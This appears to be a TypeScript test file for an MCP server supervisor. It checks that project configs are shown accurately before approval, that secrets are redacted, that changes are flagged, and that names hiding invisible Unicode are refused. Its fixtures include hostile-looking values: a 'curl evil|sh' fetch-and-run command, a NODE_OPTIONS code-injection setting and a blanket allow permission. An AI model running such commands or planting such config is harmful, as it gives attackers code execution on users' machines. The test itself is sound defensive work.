/** What is shown before something of a project is approved. */
import { join } from "node:path"
import { assert, describe } from "@effect/vitest"
import { Effect } from "effect"
import { ConfigFiles } from "../../src/index.js"
import { onMachine } from "./support.js"

const document = (servers: object, more: object = {}) => JSON.stringify({ mcp: servers, ...more })

const partsOf = (review: ConfigFiles.Review, name: string) => {
  const server = review.files.flatMap(({ entries }) => entries).find((each) => each.name === name)
  return Object.fromEntries(
    (server?.parts ?? []).map(({ before, label, text }) => [label, before === undefined ? text : [before, text]])
  )
}

const changesOf = (review: ConfigFiles.Review) =>
  Object.fromEntries(review.files.flatMap(({ entries }) => entries.map(({ change, name }) => [name, change])))

describe("a review", () => {
  onMachine("shows command lines, addresses, directories and variables as they are written (security L4)", (machine) =>
    Effect.gen(function* () {
      machine.env.TOKEN = "value-of-the-token"
      const file = machine.write(
        "mcp-supervisor.json",
        document(
          {
            x: {
              command: ["sh", "-c", "curl evil|sh", "--token", "abc"],
              env: { TOKEN: "{env:TOKEN}", NODE_OPTIONS: "--require ./evil.js", API_KEY: "sk-literal-secret" },
              inheritEnv: true
            },
            web: {
              url: "https://xk3j2h4.example.com/mcp?key=sk-in-the-address",
              headers: { "X-Key": "sk-in-a-header" }
            },
            off: { enabled: false }
          },
          { permission: { "*": "allow" } }
        )
      )
      const { review } = yield* ConfigFiles.review(machine.host)
      assert.deepStrictEqual(review.directory, { path: machine.cwd, isTrusted: false })
      assert.deepStrictEqual(
        review.files.map((each) => each.file),
        [file]
      )
      assert.deepStrictEqual(partsOf(review, "x"), {
        command: "sh -c 'curl evil|sh' --token abc",
        cwd: machine.cwd,
        "env TOKEN": "{env:TOKEN}",
        "env NODE_OPTIONS": "--require ./evil.js",
        "env API_KEY": "[redacted]",
        inheritEnv: "true"
      })
      const web = partsOf(review, "web")
      assert.match(String(web.url), /^https:\/\/xk3j2h4\.example\.com\/mcp\?key=/)
      assert.strictEqual(web["header X-Key"], "[redacted]")
      assert.deepStrictEqual(partsOf(review, "off"), { enabled: "false" })
      assert.deepStrictEqual(review.files[0]?.settings, [{ label: "permission.*", text: "allow", change: "added" }])
      assert.notMatch(JSON.stringify(review), /sk-in-the-address|sk-in-a-header|sk-literal-secret|value-of-the-token/)
      // nothing is approved by looking
      assert.deepStrictEqual((yield* ConfigFiles.load(machine.host)).desired.untrusted, ["x", "web"])
    })
  )

  onMachine("shows what changed since the last approval (security L4)", (machine) =>
    Effect.gen(function* () {
      const first = {
        a: { command: ["node", "a.mjs"], env: { KEPT: "1", GONE: "1", API_KEY: "first-secret-value" } },
        b: { url: "https://b.example.com/mcp" },
        gone: { command: "x" }
      }
      machine.write("mcp-supervisor.json", document(first))
      const approved = yield* ConfigFiles.trust(machine.host)
      assert.deepStrictEqual(changesOf(approved), { a: "new", b: "new", gone: "new" })
      assert.deepStrictEqual(changesOf((yield* ConfigFiles.review(machine.host)).review), {
        a: "unchanged",
        b: "unchanged",
        gone: "unchanged"
      })
      machine.write(
        "mcp-supervisor.json",
        document({
          a: { command: ["node", "a.mjs", "--evil"], env: { KEPT: "1", API_KEY: "second-secret-value" } },
          b: { url: "https://b.example.com/mcp" },
          c: { command: "x" }
        })
      )
      const { review } = yield* ConfigFiles.review(machine.host)
      assert.deepStrictEqual(changesOf(review), { a: "changed", b: "unchanged", c: "new" })
      assert.deepStrictEqual(partsOf(review, "a"), {
        command: ["node a.mjs", "node a.mjs --evil"],
        cwd: machine.cwd,
        "env KEPT": "1",
        "env API_KEY": ["[redacted]", "[redacted]"],
        "env GONE": ["1", undefined]
      })
      assert.deepStrictEqual(review.files[0]?.removed, ["gone"])
      assert.notMatch(machine.read(join(machine.stateDir, "trust.json")), /secret-value/)
    })
  )

  onMachine("approves what was shown, not what came after it (security L4)", (machine) =>
    Effect.gen(function* () {
      machine.write("mcp-supervisor.json", document({ a: { command: "good" } }))
      const { approve } = yield* ConfigFiles.review(machine.host)
      machine.write("mcp-supervisor.json", document({ a: { command: "evil" }, b: { command: "evil" } }))
      yield* approve
      assert.deepStrictEqual((yield* ConfigFiles.load(machine.host)).desired.untrusted, ["a", "b"])
      machine.write("mcp-supervisor.json", document({ a: { command: "good" } }))
      assert.deepStrictEqual((yield* ConfigFiles.load(machine.host)).desired.untrusted, [])
    })
  )

  for (const [what, name] of [
    ["a line end", "docs\napproved nothing else"],
    ["a character that turns the direction", "git\u202ebuh"],
    ["a tag character", "git\u{e0041}"],
    ["a character without width", "gi\u200bt"],
    ["a space that is none", "git\u00a0hub"],
    ["a filler", "git\u3164"]
  ] as const) {
    onMachine(`of a file with a name that holds ${what} is refused, and the entry left out (security L4)`, (machine) =>
      Effect.gen(function* () {
        machine.write("mcp-supervisor.json", document({ [name]: { command: "true" }, fine: { command: "true" } }))
        const loaded = yield* ConfigFiles.load(machine.host)
        assert.deepStrictEqual(loaded.desired.untrusted, ["fine"])
        const [diagnostic, ...others] = loaded.diagnostics
        assert.deepStrictEqual([diagnostic?.code, others.length], ["invalid_name", 0])
        assert.notInclude(JSON.stringify(loaded.diagnostics), name)
        assert.notInclude(diagnostic?.message, name)
        const error = yield* Effect.flip(ConfigFiles.trust(machine.host))
        assert.notInclude(error.message, name)
        assert.include(error.message, "invisible")
        assert.isAbove(error.issues.length, 0)
      })
    )
  }

  onMachine("shows invisible characters of other texts by their number (security L4)", (machine) =>
    Effect.gen(function* () {
      machine.write("mcp-supervisor.json", document({ a: { command: ["sh", "-c", "echo \u202ehs\nls", "-x\u0007"] } }))
      const { review } = yield* ConfigFiles.review(machine.host)
      assert.strictEqual(partsOf(review, "a").command, "sh -c 'echo \\u{202e}hs\\nls' '-x\\u{7}'")
    })
  )
})

describe("trust of a directory", () => {
  onMachine("works without a project file, and can be taken back (security H2)", (machine) =>
    Effect.gen(function* () {
      const review = yield* ConfigFiles.trust(machine.host)
      assert.deepStrictEqual(review, { directory: { path: machine.cwd, isTrusted: false }, files: [] })
      assert.isTrue((yield* ConfigFiles.load(machine.host)).workspace.isTrusted)
      assert.isTrue((yield* ConfigFiles.review(machine.host)).review.directory?.isTrusted)
      yield* ConfigFiles.distrust(machine.host)
      assert.isFalse((yield* ConfigFiles.load(machine.host)).workspace.isTrusted)
      const again = yield* Effect.flip(ConfigFiles.distrust(machine.host))
      assert.include(again.message, "nothing of it was approved")
    })
  )

  onMachine("is taken back with the approvals of the project's files", (machine) =>
    Effect.gen(function* () {
      machine.write("mcp-supervisor.json", document({ a: { command: "x" } }))
      machine.write(".mcp-supervisor/config.json", document({ b: { command: "x" } }))
      yield* ConfigFiles.trust(machine.host)
      assert.deepStrictEqual((yield* ConfigFiles.load(machine.host)).desired.untrusted, [])
      yield* ConfigFiles.distrust(machine.host)
      assert.deepStrictEqual((yield* ConfigFiles.load(machine.host)).desired.untrusted, ["a", "b"])
    })
  )
})
